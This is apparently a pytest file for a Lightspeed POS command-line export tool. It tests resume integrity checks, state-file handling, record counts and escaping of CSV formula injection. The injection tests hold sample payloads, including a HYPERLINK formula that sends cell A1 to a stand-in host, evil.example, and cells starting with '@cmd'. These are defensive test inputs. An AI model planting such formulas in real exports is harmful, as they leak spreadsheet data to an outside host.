"""Resume checks the data file against its state (#10 item 9) and CSV cells cannot run as formulas
(#10 item 10): every edit of the issue restarts with a one-line notice and ends with exactly the
API's records, counted from the file."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from lightspeed_pos.cli import _context, _export_cmd
from lightspeed_pos.cli._export import ExportState, count_records
from lightspeed_pos.cli._output import escape_formula
from lightspeed_pos.query import Query

from .conftest import Invoke, small_sandbox


def api_items(archived: bool = False) -> list[dict[str, object]]:
    with small_sandbox().client() as client:
        query = Query(sort="itemID", archived="true" if archived else None)
        return [item.to_dict() for item in client.account(100001).items.each(query)]


def ndjson_records(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def interrupt_after(pages: int) -> Callable[[str, ExportState], None]:
    def hook(resource: str, state: ExportState) -> None:
        if state.pages == pages:
            raise KeyboardInterrupt

    return hook


def remove_line(path: Path, index: int) -> None:
    lines = path.read_bytes().splitlines(keepends=True)
    del lines[index]
    path.write_bytes(b"".join(lines))


def truncate_half(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


EDITS: dict[str, Callable[[Path], object]] = {
    "deleted": lambda path: path.unlink(),
    "truncated to half": truncate_half,
    "one line removed": lambda path: remove_line(path, 3),
    "a byte changed": lambda path: path.write_bytes(path.read_bytes().replace(b'"2"', b'"7"', 1)),
}
NOTICES = {
    "deleted": "items.ndjson is missing; starting over",
    "truncated to half": "is shorter than what was written",
    "one line removed": "is shorter than what was written",
    "a byte changed": "does not match what was written (it was changed); starting over",
}


@pytest.mark.parametrize("edit", list(EDITS))
@pytest.mark.parametrize("finished", [False, True], ids=["interrupted", "finished"])
def test_an_edited_data_file_restarts_with_a_notice_and_ends_exact(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, edit: str, finished: bool
) -> None:
    args = ("--sandbox", "export", "items", "--out", str(tmp_path), "--page-size", "10")
    data = tmp_path / "items.ndjson"
    if not finished:
        monkeypatch.setattr(_export_cmd, "after_page", interrupt_after(4))
    first = invoke(*args)
    assert first.exit_code == (0 if finished else 130), first.stderr
    monkeypatch.setattr(_export_cmd, "after_page", lambda resource, state: None)
    EDITS[edit](data)

    second = invoke(*args)
    assert second.exit_code == 0, second.stderr
    notices = [line for line in second.stderr.splitlines() if "starting over" in line]
    assert len(notices) == 1 and notices[0].startswith("items: ") and NOTICES[edit] in notices[0]
    expected = api_items()
    assert ndjson_records(data) == expected
    assert f"Exported {len(expected)} items" in second.stdout


def test_a_complete_export_that_still_verifies_is_not_repeated(invoke: Invoke, tmp_path: Path) -> None:
    args = ("--sandbox", "export", "items", "--out", str(tmp_path))
    assert invoke(*args).exit_code == 0
    again = invoke(*args)
    assert again.exit_code == 0 and "items: already complete (117 records" in again.stderr
    assert "starting over" not in again.stderr


def test_changed_options_restart_instead_of_mixing_result_sets(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    args = ("--sandbox", "export", "items", "--out", str(tmp_path), "--page-size", "10")
    monkeypatch.setattr(_export_cmd, "after_page", interrupt_after(3))
    assert invoke(*args).exit_code == 130
    monkeypatch.setattr(_export_cmd, "after_page", lambda resource, state: None)
    resumed = invoke(*args, "--archived")
    assert resumed.exit_code == 0, resumed.stderr
    assert "items: the options changed (archived=False" in resumed.stderr
    assert "archived=True" in resumed.stderr and "starting over" in resumed.stderr
    assert ndjson_records(tmp_path / "items.ndjson") == api_items(archived=True)
    assert "Exported 120 items" in resumed.stdout


def test_torn_bytes_after_the_last_commit_are_cut_without_a_restart(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    args = ("--sandbox", "export", "items", "--out", str(tmp_path), "--page-size", "10")
    monkeypatch.setattr(_export_cmd, "after_page", interrupt_after(2))
    assert invoke(*args).exit_code == 130
    with (tmp_path / "items.ndjson").open("ab") as out:
        out.write(b'{"itemID":"21","torn')
    monkeypatch.setattr(_export_cmd, "after_page", lambda resource, state: None)
    resumed = invoke(*args)
    assert resumed.exit_code == 0 and "starting over" not in resumed.stderr
    assert "items: resuming after 20 records" in resumed.stderr
    assert ndjson_records(tmp_path / "items.ndjson") == api_items()


def test_a_corrupt_state_file_fails_loudly(invoke: Invoke, tmp_path: Path) -> None:
    args = ("--sandbox", "export", "items", "--out", str(tmp_path))
    assert invoke(*args).exit_code == 0
    (tmp_path / "items.ndjson.export-state.json").write_text('{"version": 2, "offset": "x"}')
    result = invoke(*args)
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    assert "is not an export state file; remove it or pass --restart" in result.stderr


@pytest.mark.parametrize("fmt", ["csv", "ndjson", "json"])
def test_the_final_count_is_counted_from_the_file(tmp_path: Path, fmt: str, invoke: Invoke) -> None:
    assert invoke("--sandbox", "export", "customers", "--out", str(tmp_path), "-f", fmt).exit_code == 0
    assert count_records(tmp_path / f"customers.{fmt}", fmt) == 24


# --- CSV formula injection ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-12.50", "-12.50"),
        ("+7", "+7"),
        ("Ada", "Ada"),
        ("", ""),
    ],
)
def test_escape_formula_follows_the_owasp_rule(text: str, escaped: str) -> None:
    assert escape_formula(text) == escaped


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_csv_cells_that_are_formulas_are_escaped_unless_raw(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sandbox = small_sandbox()
    with sandbox.client() as client:
        client.account(100001).customers.create({"firstName": FORMULA, "lastName": "@cmd", "title": "-1+1"})
    monkeypatch.setattr(_context, "make_sandbox", lambda: sandbox)

    listed = invoke("--sandbox", "list", "customers", "-f", "csv", "--fields", "firstName,lastName,title")
    assert listed.exit_code == 0, listed.stderr
    assert list(csv.reader(listed.stdout.splitlines()))[-1] == ["'" + FORMULA, "'@cmd", "'-1+1"]

    exported = invoke("--sandbox", "export", "customers", "--out", str(tmp_path / "safe"), "-f", "csv")
    assert exported.exit_code == 0, exported.stderr
    rows = list(csv.DictReader((tmp_path / "safe" / "customers.csv").read_text("utf-8").splitlines()))
    assert rows[-1]["firstName"] == "'" + FORMULA and rows[-1]["lastName"] == "'@cmd"
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())

    raw_args = ("--sandbox", "export", "customers", "--out", str(tmp_path / "raw"), "-f", "csv", "--csv-raw")
    raw = invoke(*raw_args)
    assert raw.exit_code == 0, raw.stderr
    raw_rows = list(csv.DictReader((tmp_path / "raw" / "customers.csv").read_text("utf-8").splitlines()))
    assert raw_rows[-1]["firstName"] == FORMULA and raw_rows[-1]["title"] == "-1+1"
    raw_list = invoke("--sandbox", "list", "customers", "-f", "csv", "--fields", "firstName", "--csv-raw")
    assert raw_list.stdout.splitlines()[-1] == '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"'
